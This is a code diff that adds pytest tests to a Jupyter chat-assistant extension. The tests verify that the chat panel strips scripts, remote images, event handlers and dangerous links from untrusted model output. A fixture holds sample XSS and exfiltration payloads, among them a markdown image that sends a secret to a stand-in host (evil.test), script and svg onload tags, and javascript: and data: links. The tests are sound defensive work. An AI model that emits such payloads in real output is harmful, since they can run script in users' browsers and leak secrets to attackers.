@@ -386,3 +386,64 @@ async def test_a_lone_surrogate_in_the_prompt_reaches_the_model_cleaned(llm, mak
     result = await make_assistant(kind).arun("What is a flow\ud800?")
     assert result.status == "complete" and result.result == "A flow is a graph."
     assert "flow\ufffd?" in llm.requests[0].text
+
+
+# -- the panel renders untrusted model output --------------------------------------------------
+
+HOSTILE_ANSWER = """\
+Here you go ![x](http://evil.test/?k=secret) and ![inline](data:image/png;base64,AAAA).
+
+<img src="http://evil.test/raw.png"> <script>alert(1)</script>
+<svg onload="alert(1)"><circle/></svg>
+
+[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [docs](https://docs.langflow.org)
+"""
+
+
+def _elements(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
+    """The real elements of an HTML fragment (what a browser would build), with their attributes."""
+    from html.parser import HTMLParser
+
+    found: list[tuple[str, list[tuple[str, str]]]] = []
+
+    class Collect(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            found.append((tag, [(k, v or "") for k, v in attrs]))
+
+    Collect().feed(html)
+    return found
+
+
+def test_the_panel_never_renders_remote_resources_or_scripts_from_model_output(llm, monkeypatch, sandbox, tmp_path):
+    from lfassist_jupyter.ui.panel import ChatPanel
+    from lfassist_jupyter.ui.workspace import Workspace
+
+    monkeypatch.setenv("OPENAI_BASE_URL", llm.openai_base_url)
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-bad-input-test-0123456789")
+    llm.queue(intent("question", "links?"), HOSTILE_ANSWER)
+    panel = ChatPanel(workspace=Workspace(data_dir=tmp_path, local_validator=sandbox))
+    panel.send_prompt("Show me some links")
+    panel.wait(60)
+    html = panel.messages[-1]["html"]
+    elements = _elements(html)
+    tags = {tag for tag, _ in elements}
+    assert {"img", "script", "svg", "iframe", "style", "object", "video"}.isdisjoint(tags)
+    attrs = [(tag, name, value) for tag, pairs in elements for name, value in pairs]
+    assert not [a for a in attrs if a[1].startswith("on") or a[1] in ("src", "srcset", "style", "background")]
+    hrefs = [value for _, name, value in attrs if name == "href"]
+    assert all(h.startswith(("http://", "https://", "mailto:")) for h in hrefs)
+    assert "https://docs.langflow.org" in hrefs
+    assert "http://evil.test/?k=secret" in hrefs  # the image is a link the user may follow, not a fetch
+    assert [v for tag, name, v in attrs if tag == "a" and name == "rel"] == ["noopener noreferrer"] * len(hrefs)
+    # And the stored session, restored into the panel, renders the same way.
+    panel.switch_session(panel.session_id)
+    restored = panel.messages[-1]["html"]
+    assert "<img" not in restored and "<script" not in restored
+
+
+def test_raw_html_links_images_and_styles_are_sanitised():
+    from lfassist_jupyter.ui.messages import render_markdown
+
+    html = render_markdown('```python\nx = 1\n```\n\n[rel](/api/contents) ![a](https://h/i.png "t")')
+    assert 'class="highlight"' in html and "<img" not in html
+    assert 'href="/api' not in html  # relative URLs would reach the Jupyter server itself
